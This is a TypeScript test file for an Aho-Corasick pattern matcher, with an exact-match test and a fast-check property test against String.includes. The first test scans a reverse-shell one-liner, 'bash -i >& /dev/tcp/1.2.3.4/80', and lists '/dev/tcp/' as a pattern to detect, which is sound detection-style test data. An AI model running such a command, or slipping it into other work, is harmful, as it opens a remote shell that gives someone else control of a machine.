import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { AhoCorasick } from './aho-corasick.ts';

void test('reports exactly the patterns that occur in the text, overlapping ones included', () => {
  const ac = new AhoCorasick(['he', 'she', 'his', 'hers', '/dev/tcp/']);
  const found = new Set<number>();
  ac.scan('ushers bash -i >& /dev/tcp/1.2.3.4/80', (id) => found.add(id));
  assert.deepEqual([...found].sort(), [0, 1, 3, 4]);
});

void test('agrees with String.includes on random patterns and texts', () => {
  const alpha = fc.string({ unit: fc.constantFrom('a', 'b', 'c', '/'), maxLength: 24 });
  fc.assert(
    fc.property(fc.array(fc.string({ unit: fc.constantFrom('a', 'b', 'c', '/'), minLength: 1, maxLength: 5 }), { maxLength: 12 }), alpha, (pats, text) => {
      const ac = new AhoCorasick(pats);
      const found = new Set<number>();
      ac.scan(text, (id) => found.add(id));
      pats.forEach((p, i) => assert.equal(found.has(i), text.includes(p), `${p} in ${text}`));
    }),
    { numRuns: 300, seed: 7 },
  );
});
